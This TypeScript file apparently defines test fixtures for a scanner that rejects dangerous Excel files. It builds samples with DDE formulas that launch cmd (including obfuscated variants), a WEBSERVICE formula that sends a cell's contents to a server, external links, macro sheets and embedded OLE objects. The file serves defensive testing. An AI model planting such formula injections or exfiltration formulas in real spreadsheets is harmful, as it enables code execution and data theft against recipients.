import { buildXlsx, inside } from './build-office.ts'
import type { Hostile } from './document.ts'
import type { OfficeRow } from './office-row.ts'

const EXCEL = 'http://schemas.microsoft.com/office/2006/relationships'
const rows: OfficeRow[] = [
  ['dde-formula', 'starts a program by a formula', 'file_has_references', { body: "cmd|'/C calc'!A0" }],
  [
    'dde-formula-spelled',
    'spells the bar by its number',
    'file_has_references',
    { body: "cmd&#124;'/C calc'!A0" },
  ],
  [
    'dde-formula-cut',
    'cuts a formula by a remark',
    'file_has_references',
    { body: "cmd<!-- -->|'/C calc'!A0" },
  ],
  [
    'dde-name',
    'starts a program by a name',
    'file_has_references',
    {
      more: [{ name: 'xl/a.xml', content: '<a><definedName name="b">cmd|\'/C calc\'!A0</definedName></a>' }],
    },
  ],
  [
    'dde-link',
    'links to a program',
    'file_has_references',
    {
      more: [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
        },
      ],
    },
  ],
  [
    'workbook-outside',
    'takes in another workbook',
    'file_has_references',
    { related: [inside('externalLink', 'externalLinks/externalLink1.xml')] },
  ],
  [
    'fetching-formula',
    'sends a cell to a server',
    'file_has_references',
    { body: '_xlfn.WEBSERVICE("http://host/?"&amp;A2)' },
  ],
  [
    'picture-formula',
    'fetches a picture by a formula',
    'file_has_references',
    { body: '_xlfn.IMAGE("http://host/a.png")' },
  ],
  [
    'macro-sheet',
    'holds a sheet of old macros',
    'file_has_macros',
    { related: [`<Relationship Id="a" Type="${EXCEL}/xlMacrosheet" Target="macrosheets/sheet1.xml"/>`] },
  ],
  [
    'macro-sheet-international',
    'the same, in another language',
    'file_has_macros',
    { related: [`<Relationship Id="a" Type="${EXCEL}/xlIntlMacrosheet" Target="macrosheets/sheet1.xml"/>`] },
  ],
  [
    'dialog-sheet',
    'shows a dialog of old macros',
    'file_has_macros',
    { related: [inside('dialogsheet', 'dialogsheets/sheet1.xml')] },
  ],
  [
    'connection',
    'asks a server for its data',
    'file_has_references',
    { related: [inside('connections', 'connections.xml')] },
  ],
  [
    'object-in-sheet',
    'carries an object',
    'file_has_objects',
    {
      more: [
        {
          name: 'xl/worksheets/sheet2.xml',
          content:
            '<worksheet><oleObjects><oleObject progId="Package" r:id="a" xmlns:r="r"/></oleObjects></worksheet>',
        },
      ],
    },
  ],
]

export const officeSheets: Hostile[] = rows.map(([name, does, refused, content]) => ({
  name,
  does,
  refused,
  type: 'xlsx',
  make: () => buildXlsx(content),
}))
